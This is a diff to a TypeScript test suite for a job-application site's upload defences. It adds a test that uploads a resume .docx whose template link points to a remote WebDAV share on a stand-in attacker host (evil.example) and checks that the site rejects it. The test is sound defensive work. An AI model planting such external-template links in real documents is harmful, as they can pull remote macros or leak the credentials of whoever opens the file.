@@ -1,7 +1,10 @@
 import { request as httpRequest } from 'node:http';
 import { refusals } from '@/lib/guard/refusals';
-import { actionOn, formOn } from '@/scripts/support/post-form';
+import { fileMessages } from '@/lib/uploads/limits';
+import { newApplicant } from '@/scripts/support/applicant';
+import { actionOn, formOn, postForm } from '@/scripts/support/post-form';
 import { type SiteServer, startSite } from '@/scripts/support/site-server';
+import { docxRelatedTo } from '../support/hostile-files';
 import { rawRequest, words } from '../support/raw-request';
 import { expect, test } from './fixtures';
 
@@ -120,6 +123,18 @@ test.describe('attacked with', () => {
       body: `${parts.join('')}--x--\r\n`,
     });
     expect(answer.status).toBe(400);
+  });
+
+  test('a resume that loads its template from a file server, it refuses and says what to do', async () => {
+    const template = '\\\\evil.example@SSL@443\\DavWWWRoot\\a.dotm';
+    const word = docxRelatedTo(
+      `Type="a/attachedTemplate" TargetMode="External" Target="${template}"`,
+    );
+    const resume = new File([new Uint8Array(word)], 'resume.docx');
+    const answer = await postForm(`${site.url}/jobForm`, { ...newApplicant(), resume });
+    expect(answer.status).toBe(200);
+    expect(await answer.text()).toContain(fileMessages.linked);
+    expect(await site.readiness()).toMatchObject({ pending: 0 });
   });
 
   test('a message of four million control characters, it refuses without sending one of them back', async () => {
